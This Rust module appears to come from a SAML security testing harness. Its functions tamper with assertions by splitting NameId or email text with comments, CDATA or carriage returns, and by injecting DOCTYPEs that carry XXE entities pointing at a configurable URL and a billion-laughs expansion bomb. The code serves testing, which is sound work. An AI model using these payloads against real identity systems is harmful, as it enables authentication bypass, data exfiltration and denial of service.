//! Text-node truncation (comment, processing instruction and CDATA splits; carriage returns)
//! and DTDs.

use roxmltree::{Document, Node};

use super::{Edit, name_id_text, qualified_name, with_doctype};
use crate::plan::{DoctypeEntity, TextField, TextSplit};
use crate::response::PipelineError;
use crate::xml::{NS_SAML, escape_text};

/// The text node of `field`.
fn field_text<'a, 'input>(
    doc: &'a Document<'input>,
    field: TextField,
) -> Result<Node<'a, 'input>, PipelineError> {
    match field {
        TextField::NameId => name_id_text(doc, "split-text"),
        TextField::EmailAttribute => {
            let name_id = name_id_text(doc, "split-text")?.text().unwrap_or_default();
            let values: Vec<Node<'_, '_>> = doc
                .descendants()
                .filter(|n| n.has_tag_name((NS_SAML, "AttributeValue")))
                .collect();
            let named = values.iter().find(|v| {
                v.parent_element()
                    .and_then(|a| a.attribute("Name"))
                    .is_some_and(|name| name == "email")
            });
            let same = values.iter().find(|v| {
                v.text() == Some(name_id) && v.first_child().is_some_and(|c| c.is_text())
            });
            named
                .or(same)
                .and_then(|v| v.first_child().filter(Node::is_text))
                .ok_or_else(|| {
                    PipelineError::Plan(
                        "tamper `split-text`: the assertion has no `email` attribute value (add one with [plan.attributes])".into(),
                    )
                })
        }
    }
}

/// Splits the field's text right after `after`.
pub(super) fn split(
    doc: &Document<'_>,
    field: TextField,
    after: &str,
    with: TextSplit,
) -> Result<Vec<Edit>, PipelineError> {
    let text = field_text(doc, field)?;
    let value = text.text().unwrap_or_default();
    let Some(rest) = value.strip_prefix(after).filter(|_| !after.is_empty()) else {
        return Err(PipelineError::Plan(format!(
            "tamper `split-text`: the value {value:?} does not start with {after:?}"
        )));
    };
    let at = text.range().start + escape_text(after).len();
    Ok(match with {
        TextSplit::Comment => vec![(at..at, "<!---->".to_owned())],
        TextSplit::ProcessingInstruction => vec![(at..at, "<?harness?>".to_owned())],
        TextSplit::CarriageReturnReference => vec![(at..at, "&#13;".to_owned())],
        TextSplit::CarriageReturn => vec![(at..at, "\r".to_owned())],
        TextSplit::Cdata => {
            if rest.contains("]]>") {
                return Err(PipelineError::Plan(
                    "tamper `split-text`: the rest of the value contains `]]>`".into(),
                ));
            }
            vec![(at..text.range().end, format!("<![CDATA[{rest}]]>"))]
        }
    })
}

/// Puts a DOCTYPE before the root; external kinds point at `url`.
pub(super) fn doctype(
    doc: &Document<'_>,
    xml: &str,
    entity: DoctypeEntity,
    url: Option<&str>,
) -> Result<String, PipelineError> {
    let url = match (entity.is_external(), url) {
        (true, Some(url)) if !url.contains(['"', '\'']) => url,
        (true, Some(_)) => {
            return Err(PipelineError::Plan(
                "tamper `doctype`: the url may not contain quotes".into(),
            ));
        }
        (true, None) => {
            return Err(PipelineError::Plan(format!(
                "tamper `doctype`: the entity kind {entity:?} needs a `url` (e.g. \"{{witness.url}}\")"
            )));
        }
        (false, _) => "",
    };
    let root = qualified_name(xml, doc.root_element());
    let (dtd, reference) = match entity {
        DoctypeEntity::Internal => (
            format!("<!DOCTYPE {root} [<!ENTITY harness \"harness\">]>"),
            None,
        ),
        DoctypeEntity::External => (
            format!("<!DOCTYPE {root} [<!ENTITY xxe SYSTEM \"{url}\">]>"),
            Some("&xxe;"),
        ),
        DoctypeEntity::Parameter => (
            format!("<!DOCTYPE {root} [<!ENTITY % xxe SYSTEM \"{url}\"> %xxe;]>"),
            None,
        ),
        DoctypeEntity::ExternalSubset => (format!("<!DOCTYPE {root} SYSTEM \"{url}\">"), None),
        DoctypeEntity::Expansion => {
            let mut dtd = format!("<!DOCTYPE {root} [<!ENTITY lol0 \"lol\">");
            for level in 1..10 {
                let prior = format!("&lol{};", level - 1).repeat(10);
                dtd.push_str(&format!("<!ENTITY lol{level} \"{prior}\">"));
            }
            dtd.push_str("]>");
            (dtd, Some("&lol9;"))
        }
    };
    let mut body = xml.to_owned();
    if let Some(reference) = reference {
        let end = name_id_text(doc, "doctype")?.range().end;
        body.insert_str(end, reference);
    }
    Ok(with_doctype(&body, &dtd))
}
